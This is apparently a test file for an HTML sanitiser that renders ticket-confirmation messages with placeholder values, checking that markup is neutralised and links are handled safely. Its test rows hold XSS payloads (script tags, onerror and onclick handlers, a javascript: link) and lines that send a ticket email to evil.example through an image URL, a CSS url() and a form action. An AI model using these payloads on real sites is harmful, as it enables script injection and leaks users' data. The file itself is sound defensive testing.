import { render, screen, waitFor } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { expect, it, vi } from 'vitest';
import type { PlaceholderValues } from '../../../../../src/domain/confirmation';
import { messageNodes } from '../../../../../src/themed/confirmation/messageNodes';
import { PostMessage } from '../../../../../src/themed/confirmation/PostMessage';
import { eachRow } from '../../../../eachRow';

const values: PlaceholderValues = {
  firstName: 'Amara',
  lastName: 'Osei',
  prefix: '',
  ticketEmail: 'amara@tidewater.studio',
  eventName: 'Northlight 2026',
  venueName: 'Harbour Hall',
  venueAddress: '1 Pier Road, Boston',
  eventUrl: 'https://northlight.example/2026',
};
const nodes = (html: string, more: Partial<PlaceholderValues> = {}) => {
  const box = document.createElement('div');
  box.append(messageNodes(html, { ...values, ...more }, { current: undefined }));
  return box;
};

it('puts values in as text, whatever they look like', () => {
  const firstName = '<img src=x onerror=alert(1)>{{lastName}}&lt;b&gt;';
  const box = nodes('<p>Hello <b>{{firstName}}</b></p>', { firstName });
  expect(box.querySelector('b')?.textContent).toBe(firstName);
  expect(box.querySelector('img')).toBeNull();
});

eachRow([
  ['<script>alert(1)</script>{{firstName}}', 'Amara'],
  ['<p onclick="alert(1)">{{firstName}}</p>', '<p>Amara</p>'],
  ['<img src="https://evil.example/{{ticketEmail}}">', ''],
  ['<style>p{background:url(//evil.example/{{ticketEmail}})}</style>x', 'x'],
  ['<form action="https://evil.example"><input name="a"></form>', ''],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<p title="{{firstName}}" style="color:red" class="bx">x</p>', '<p>x</p>'],
])('makes %s safe', (html, safe) => {
  expect(nodes(html).innerHTML).toBe(safe);
});

it('puts titles below those of the page', () => {
  expect(nodes('<h1>a</h1><h2>b</h2><h3>c</h3><h6>d</h6>').innerHTML).toBe(
    '<h3>a</h3><h3>b</h3><h4>c</h4><h5>d</h5>',
  );
});

it('opens other sites in a new tab, without a way back to this one', () => {
  const link = nodes('<a href="{{eventUrl}}/map?q={{venueName}}">Map</a>').querySelector('a');
  expect(link?.getAttribute('href')).toBe('https://northlight.example/2026/map?q=Harbour%20Hall');
  expect(link?.target).toBe('_blank');
  expect(link?.rel).toContain('noopener');
});

it('is readable before its formatting is there', () => {
  render(<PostMessage html="<p>Hello {{firstName}}</p>" values={values} />);
  expect(screen.getByText('Hello Amara')).toBeInTheDocument();
});

it('goes to paths of this application without leaving it (001 §2)', async () => {
  const onNavigate = vi.fn();
  render(
    <PostMessage
      html='<a href="/widgets/tickets/1001?for={{firstName}}">More tickets</a>'
      values={values}
      onNavigate={onNavigate}
    />,
  );
  const link = await screen.findByRole('link', { name: 'More tickets' });
  expect(link).not.toHaveAttribute('target');
  await userEvent.click(link);
  await waitFor(() => expect(onNavigate).toHaveBeenCalledExactlyOnceWith('/widgets/tickets/1001?for=Amara'));
});
